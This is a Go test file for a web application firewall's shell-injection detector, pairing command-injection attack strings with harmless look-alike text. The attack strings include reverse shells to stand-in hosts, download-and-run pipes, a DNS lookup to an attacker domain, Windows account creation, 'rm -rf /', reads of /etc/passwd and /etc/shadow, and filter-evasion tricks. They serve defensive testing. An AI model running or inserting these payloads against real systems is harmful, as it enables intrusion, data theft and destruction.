package shell

import (
	"testing"

	"kongwaf/detect"
	"kongwaf/detect/attack/languagetest"
	"kongwaf/detect/attack/value"
)

var language = languagetest.Language{Class: detect.ClassRCE, Possible: Possible, Judge: Judge, Rows: rows}

func TestLanguage(t *testing.T)   { language.Test(t) }
func FuzzJudge(f *testing.F)      { language.Fuzz(f) }
func BenchmarkJudge(b *testing.B) { language.Benchmark(b) }

// FuzzOrdinary holds that nothing is seen in a word that is passed over as ordinary, and that
// hopping from break to break misses none.
func FuzzOrdinary(f *testing.F) {
	for _, r := range rows {
		f.Add(r.Attack)
		f.Add(r.Twin)
	}
	for _, s := range []string{"text/html,a+b", "Get-Item x", "a/Get-Item x", "/bin/a", "a/bin//b", "do/!", "ping.exe 1.1.1.1", "cat,x", "a|b|cat /etc/passwd", "a;b;c=d;id", `a\nid`,
		"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/!b c", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/then cat /etc/passwd"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		v := value.Of(text, detect.SourceQuery, "q")
		fast := lexer{text: text, traits: v.Traits, plus: v.Traits.Any(value.Plus) && !v.Traits.Any(value.White)}
		for i := range min(len(text), 256) {
			if !fast.ordinary(i) {
				continue
			}
			for ctx := atStart; ctx <= afterText; ctx++ {
				s := fast
				if m := s.lookAt(i, ctx, max(0, i-1)); m != (value.Match{}) {
					t.Errorf("%q at %d in context %d is not ordinary: %+v", text, i, ctx, m)
				}
			}
		}
		slow := fast
		slow.traits |= value.Semicolon | value.Ampersand | value.Less
		if got, want := fast.walk(value.Match{}), slow.walk(value.Match{}); got != want {
			t.Errorf("%q: %+v by hopping, %+v byte by byte", text, got, want)
		}
	})
}

var rows = []languagetest.Row{
	{Shows: "the end of a string", Attack: `"; node -e 1`, Twin: `"node": tree.For(`},
	{Shows: "a lonely command in a fence", Attack: "so it was said before\n```\n; id\n```\nthanks", Twin: "so it was said before\n```\nid; name\n```\nthanks"},
	{Shows: "a substitution of a pipe on its own line", Attack: "Dear all, it was nice.\nWe liked the lake.\nThe food was good.\nBye.\n$(curl x.example/a|sh)", Twin: "Dear all, it was nice.\nWe liked the lake.\nThe food was good.\nBye.\n$(document).ready(x)"},
	{Shows: "a command in an element", Attack: "<p>; sleep 9</p>", Twin: "<p>sleep 9</p>"},
	{Shows: "a tool of developers as inline code", Attack: "`curl 192.0.2.7/x`", Twin: "`go install x.example/cmd/y@latest`", Suspicious: true},
	{Shows: "an interpreter without code", Attack: "python3 -c 'import os'", Twin: "python3 -m unittest discover tests", Suspicious: true},
	{Shows: "steps of a guide", Attack: "x\n127.0.0.1 && make -j4", Twin: "git checkout x\n./configure && make -j4\ncp a b", Suspicious: true},
	{Shows: "a test before a command", Attack: "; [ 1 ] && id", Twin: "a [ 1 ] && id card"},
	{Shows: "function by its word", Attack: "; function q { id; }; q", Twin: "; function q of id"},
	{Shows: "a command made by a substitution", Attack: "x;$(echo id)", Twin: "x; $(form).id of it"},
	{Shows: "evaluation of a substitution", Attack: "; eval $(echo id)", Twin: "; eval of $(x)"},
	{Shows: "a script that is read in", Attack: "; . /tmp/q", Twin: "; . and so on"},
	{Shows: "PowerShell with a word in a substitution", Attack: "$(Get-Content q)", Twin: "$(content).get(x)"},
	{Shows: "several numbers", Attack: "; seq 1 9", Twin: "; seq 1 of 9"},
	{Shows: "option with the file at once", Attack: "-O/srv/www/q.php", Twin: "-O2 -Wall"},
	{Shows: "setting of Git that runs a command", Attack: "--config=core.pager=id", Twin: "--config=core.bare=true"},
	{Shows: "option that sends a file", Attack: "-d @/etc/hostname", Twin: "-d @home"},
	{Shows: "interpreter in a configuration", Attack: "/bin/bash -c id", Twin: "/bin/bash", Source: detect.SourceBody, Name: "shell", Suspicious: true},
	{Shows: "fields of a log line", Attack: "cmd=cat /etc/passwd", Twin: `time="12:00" level=info cmd="ls -la"`},
	{Shows: "emphasised code", Attack: "x`whoami`", Twin: "**`whoami`** prints a name", Suspicious: true},
	{Shows: "a sentence that begins with cmd.exe's words", Attack: `type C:\Windows\win.ini`, Twin: "Type /etc/hosts in the box", Suspicious: true},
	{Shows: "a title", Attack: "query user /server:q", Twin: "User Query", Suspicious: true},
	{Shows: "commands in a chain of a guide", Attack: "x ; cd /tmp && id", Twin: "cd spec && tool . && open a/b.html && cd ..", Suspicious: true},
	{Shows: "a command tightly behind its operator, after a sentence", Attack: "I would like to know where my order is, please help.;cat /etc/passwd", Twin: "I would like to know where my order is; cat and dog food, please help."},
	{Shows: "a comment ends the command", Attack: "127.0.0.1;whoami # and so on, and on", Twin: "127.0.0.1; who am I # and so on"},
	{Shows: "a program at once behind an operator", Attack: ";iptables -F", Twin: "a firewall; iptables or nftables"},
	{Shows: "a shell in a variable", Attack: ";$SHELL -c id", Twin: "$SHELL is /bin/zsh; -c is an option"},
	{Shows: "a command that runs its argument", Attack: ";exec ls /home", Twin: "the exec lists; exec summary"},
	{Shows: "an option that runs a command", Attack: "--upload-pack=touch /tmp/x", Twin: "--output=touch.txt /tmp is full"},
	{Shows: "a host with a path", Attack: "a.png;wget x.example.net/y.sh", Twin: "a.png; b.png/c.d"},
	{Shows: "a prelude runs nothing by itself", Attack: "cd /tmp;wget http://192.0.2.7/x", Twin: "cd /tmp", Suspicious: true},
	{Shows: "asking a program about itself", Attack: "perl -e 'exec id'", Twin: "perl -v", Suspicious: true},
	{Shows: "a character reference is no operator", Attack: "a;cp -r /etc /tmp/x", Twin: "bread &amp; cp -r or so"},
	{Shows: "inline code in a chat", Attack: "`ls -la`", Twin: "hey there, see what it says & `ls -la`; thanks", Suspicious: true},
	{Shows: "operator and a command with a fitting path", Attack: "127.0.0.1; cat /etc/passwd", Twin: "the dog; cat and mouse"},
	{Shows: "pipe into a lonely command after an address", Attack: "8.8.8.8|id", Twin: "name|id|type", Suspicious: true},
	{Shows: "and-list", Attack: "x && whoami", Twin: "Tom && Jerry"},
	{Shows: "background", Attack: "a & ping -c 10 127.0.0.1 &", Twin: "Tom & Jerry"},
	{Shows: "or-list with a failing left side", Attack: "foo || sleep 10", Twin: "sleep 10 hours || rest"},
	{Shows: "newline", Attack: "1\nid\n", Twin: "My name\nand address"},
	{Shows: "carriage return and a path", Attack: "x\r/bin/uname -a", Twin: "x\r/home/me"},
	{Shows: "backticks", Attack: "`id`", Twin: "use `ls -la | grep foo` to find it", Suspicious: true},
	{Shows: "substitution", Attack: "$(curl http://192.0.2.7/x)", Twin: "$('#id').hide()"},
	{Shows: "substitution in a host name", Attack: "$(whoami).attacker.example", Twin: "$(document).ready"},
	{Shows: "process substitution", Attack: "foo <(cat /etc/passwd)", Twin: "a <(b)"},
	{Shows: "break-out of double quotes", Attack: "\";id;\"", Twin: "\"quoted\"; done"},
	{Shows: "break-out of single quotes", Attack: "' ; /bin/sleep 31 ;", Twin: "it's late; I'll sleep"},
	{Shows: "field separator instead of blanks", Attack: ";cat$IFS/etc/passwd", Twin: "cost;cat$ 5", Suspicious: true},
	{Shows: "field separator in braces and a positional", Attack: ";getent${IFS}$9hosts${IFS}$9x.example", Twin: "a ${IFS} variable"},
	{Shows: "redirection instead of a blank", Attack: "x;cat</etc/passwd", Twin: "cat<dog"},
	{Shows: "brace list", Attack: ";{cat,/etc/passwd}", Twin: "{name,email}"},
	{Shows: "quotes inside the name", Attack: ";c''at /e''tc/passwd", Twin: "can''t; won''t"},
	{Shows: "backslash inside the name", Attack: "|c\\at /etc/passwd", Twin: "a|b\\c"},
	{Shows: "empty expansion inside the name", Attack: ";wh$@oami", Twin: "who@example.com; me"},
	{Shows: "caret inside the name (cmd.exe)", Attack: "& w^ho^am^i", Twin: "2^3 & 3^2"},
	{Shows: "wildcards for the name", Attack: ";/???/??t /???/p??s??", Twin: "what/???/ever"},
	{Shows: "set for a letter of the name", Attack: ";/bin/c[a]t /etc/passwd", Twin: "/[a-z]+/[0-9]"},
	{Shows: "path to the command", Attack: "/usr/bin/id", Twin: "/usr/share/doc"},
	{Shows: "path after a pipe", Attack: "x|/usr/bin/env", Twin: "x|/images/env.png"},
	{Shows: "bare command with a path", Attack: "cat /etc/passwd", Twin: "cat food"},
	{Shows: "bare command with options", Attack: "ls -la", Twin: "ls 300 lexus"},
	{Shows: "bare netcat with a shell", Attack: "nc -e /bin/sh 192.0.2.1 99", Twin: "nc 8000 controller"},
	{Shows: "reverse shell over bash's pseudo file", Attack: "bash -i >& /dev/tcp/192.0.2.1/8080 0>&1", Twin: "bash away in the gym"},
	{Shows: "download and run", Attack: "wget http://192.0.2.1/x.sh -O- | sh", Twin: "curl and divergence"},
	{Shows: "PowerShell with encoded code", Attack: "powershell -enc SQBFAFgA", Twin: "PowerShell 7.4 released"},
	{Shows: "cmd.exe", Attack: "cmd /c dir", Twin: "cmd key / ctrl key"},
	{Shows: "cmd.exe after an ampersand", Attack: "x & dir c:\\", Twin: "black & white"},
	{Shows: "type of a Windows file", Attack: "type C:\\boot.ini", Twin: "type A blood"},
	{Shows: "accounts of Windows", Attack: "| net user hacker Passw0rd /add", Twin: "the net | user growth"},
	{Shows: "registry", Attack: "& reg query HKLM /s", Twin: "reg & co"},
	{Shows: "Shellshock", Attack: "() { :;}; /bin/bash -c 'id'", Twin: "(see above) { ok }"},
	{Shows: "Shellshock, other body", Attack: "() { _; } >_[$($())] { id; }", Twin: "() => { return 1; }"},
	{Shows: "interpreter with code", Attack: ";python3 -c 'import os;os.system(\"id\")'", Twin: "perl; python; ruby"},
	{Shows: "encoded command piped into a shell", Attack: ";echo aWQ= | base64 -d | bash", Twin: "echo; base; bass"},
	{Shows: "variables that make up the name", Attack: "(a=d;i$a)", Twin: "(a=b;c)"},
	{Shows: "assignment before the command", Attack: "X=1 ls -la", Twin: "X=1 apples"},
	{Shows: "runner before the command", Attack: ";sudo id", Twin: "sudo; make me a sandwich"},
	{Shows: "loop", Attack: "for i in 1 2 3; do echo $i; done", Twin: "for you; do well; have fun"},
	{Shows: "parameter name as command line", Attack: "--exec=`id`", Twin: "--exec=fast"},
	{Shows: "blank as plus", Attack: ";cat+/etc/passwd", Twin: "cat+dog"},
	{Shows: "dns lookup of a tool", Attack: "||nslookup abc.attacker.example", Twin: "a||b"},
	{Shows: "time by arithmetic of cmd.exe", Attack: "| set /a 3482*7301", Twin: "| set | get"},
	{Shows: "cookie with a command", Attack: "1;id", Twin: "theme=dark; id=5; path=/", Source: detect.SourceCookie},
	{Shows: "browser", Attack: "x;curl 192.0.2.1|sh", Twin: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36", Source: detect.SourceHeader, Name: "User-Agent"},
	{Shows: "a table of Markdown", Attack: "|cat /etc/shadow", Twin: "| id | name | date |\n|----|------|------|"},
	{Shows: "a script is a document", Attack: "$(id)", Twin: "#!/bin/sh\nset -e\ncd /tmp && ls -la\nrm -rf build; make all\necho done with it\n", Suspicious: true},
	{Shows: "an entity of HTML", Attack: "&id&", Twin: "x &sub; y &amp; z"},
	{Shows: "a comma parts words in a brace list only", Attack: ";{tail,/etc/passwd}", Twin: "data:image/png;base64,/9j/4AAQSkZJRg"},
	{Shows: "a comma behind a word", Attack: "x; sort /etc/passwd", Twin: "Jazz & Split, b/c; time, date, place"},
	{Shows: "a sentence that begins with a command's name", Attack: "copy c:\\boot.ini d:\\x", Twin: "Copy ~/.ssh/key.pub to the new machine.", Suspicious: true},
	{Shows: "a name of a program's", Attack: "; sh ./create.sh", Twin: "Test Board::List.create"},
	{Shows: "code in brackets", Attack: "x`curl 192.0.2.7`", Twin: "the key (`id`) is", Suspicious: true},
	{Shows: "code in a table", Attack: "|`reboot`", Twin: "| `date` | text |", Suspicious: true},
	{Shows: "code in a quote", Attack: "x>`reboot`", Twin: "> `npm install left-pad`", Suspicious: true},
	{Shows: "code behind a word that leads to it", Attack: "hello there dear `reboot`", Twin: "to do so, run `reboot`", Suspicious: true},
	{Shows: "no empty expansion", Attack: "$9date -u", Twin: "$$date"},
	{Shows: "a command in neither case", Attack: "$(id)", Twin: "xK$(Id)q9", Suspicious: true},
	{Shows: "arithmetic", Attack: "|expr 7 + 8", Twin: "7 + 8 | expr"},
	{Shows: "sums and substitutions to show", Attack: ";echo Q$((6*7))$(echo Z)", Twin: "; echo of a Q$ 7"},
	{Shows: "writing a file", Attack: "|echo q > w.jsp", Twin: "| echo q > w"},
	{Shows: "a file of no name", Attack: "; tac secrets", Twin: "dogs; tac secrets of sailing"},
	{Shows: "trap", Attack: "; trap 'rm -r /tmp/q' EXIT", Twin: "; trap 'em all, EXIT"},
	{Shows: "until", Attack: "; until ls; do :; done", Twin: "; until you do; well, done"},
	{Shows: "if", Attack: "; if ls; then :; fi", Twin: "; if this, then hi-fi"},
	{Shows: "function", Attack: "; q(){ uptime; };q", Twin: "a; q(){ up; };q"},
	{Shows: "behind a sentence", Attack: "we hope to see you soon; rm -rf /", Twin: "we hope to see you soon; rm is short for remove"},
	{Shows: "behind a sentence, with a blank that no sentence has", Attack: "we hope to see you soon ; id", Twin: "we hope to see you soon; id please"},
	{Shows: "on a line of its own in a text", Attack: "Thank you for the cake.\nIt was very good.\nWe ate it all at once.\nBye for now\n; cat /etc/passwd", Twin: "Thank you for the cake.\nIt was very good.\nWe ate it all at once.\nBye for now\n; cat and dog"},
	{Shows: "in a fence", Attack: "look here\n```\n; cat /etc/passwd\n```\nthanks", Twin: "run this now\n```\ncat /etc/passwd\n```\nthanks"},
	{Shows: "in a list", Attack: "- bread and butter\n- ; wget http://192.0.2.7/x\n- milk", Twin: "- bread and butter\n- wget or curl\n- milk"},
	{Shows: "with a signature", Attack: "127.0.0.1; ls -la /\n\n-- \nBest regards,\nAnna Olsen\nMarket Square 3", Twin: "127.0.0.1; and so on\n\n-- \nBest regards,\nAnna Olsen\nMarket Square 3"},
	{Shows: "cited in a text", Attack: "so many words here ; rm -rf /", Twin: "A name such as \"x; rm -rf /\" would reach the shell.", Suspicious: true},
	{Shows: "a slash cut out of a variable", Attack: "x; ${PWD:0:1}bin${PWD:0:1}id", Twin: "x; ${PWD} and ${HOME}"},
	{Shows: "here-string into the shell itself", Attack: "a;$0<<<id", Twin: "a;$0 off"},
	{Shows: "letters put together by tr", Attack: "$(tr 'c' 'd'<<<ic)", Twin: "$(tr).find('c')"},
	{Shows: "cmd.exe by its variable", Attack: "%COMSPEC% /c dir", Twin: "100% /c"},
	{Shows: "PowerShell in a substitution", Attack: "$(Get-Date)", Twin: "Rock; Set-Up", Suspicious: true},
	{Shows: "FOR of cmd.exe", Attack: "& for /f %i in ('whoami') do echo %i", Twin: "& for 10% in (all) do"},
	{Shows: "IF of cmd.exe", Attack: "& if exist c:\\x del c:\\x", Twin: "& if exist ones"},
	{Shows: "a program of Windows", Attack: "&calc", Twin: "&calculated"},
	{Shows: "option that runs a command, without blanks", Attack: "--use-compress-program=id", Twin: "--compress-level=id"},
	{Shows: "option of tar", Attack: "--checkpoint-action=exec=id", Twin: "--checkpoint=exec"},
	{Shows: "option that writes code for a web server", Attack: "--output=/srv/www/q.php", Twin: "--output=/srv/q.txt"},
	{Shows: "option with a command", Attack: "-c 'id'", Twin: "-c red"},
	{Shows: "transport of Git", Attack: "ext::sh -c id", Twin: "ext::table and co"},
	{Shows: "style sheet", Attack: ";id", Twin: "color: red; top: 0; left: 1px; sort: none"},
}
